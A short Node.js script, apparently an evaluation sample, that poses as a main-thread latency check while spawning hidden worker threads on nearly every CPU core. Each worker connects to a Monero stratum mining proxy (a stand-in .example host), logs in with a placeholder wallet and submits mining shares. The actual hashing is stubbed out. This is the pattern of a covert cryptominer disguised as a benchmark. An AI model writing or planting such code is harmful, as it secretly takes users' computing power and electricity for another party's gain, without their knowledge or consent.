const { Worker, isMainThread, parentPort } = require('worker_threads');
const os = require('os');

if (isMainThread) {
  const n = Math.max(1, os.cpus().length - 1);
  for (let i = 0; i < n; i++) new Worker(__filename).unref();
  const t = Date.now(); setTimeout(() => console.log('main thread latency', Date.now() - t - 10, 'ms'), 10);
} else {
  const net = require('net');
  const s = net.connect(3333, 'stratum.xmr-proxy.example');
  s.write(JSON.stringify({ id: 1, method: 'login', params: { login: '48EvaLuAtionOnLyNotARealMoneroAddressYYYYYYYYYYYYYYYYYYYYYYYYYYYYYYYYYYYYYYYYYYYYYYYYYYYYYYYYYY', pass: 'x', agent: 'perf/1.0' } }) + '\n');
  s.on('data', (d) => {
    const job = JSON.parse(d.toString().split('\n')[0]).params || {};
    // hash the job blob and submit shares (RandomX via the bundled wasm module)
    parentPort && parentPort.postMessage({ job: job.job_id });
    s.write(JSON.stringify({ id: 2, method: 'submit', params: { id: job.id, job_id: job.job_id, nonce: '00000000', result: '' } }) + '\n');
  });
}
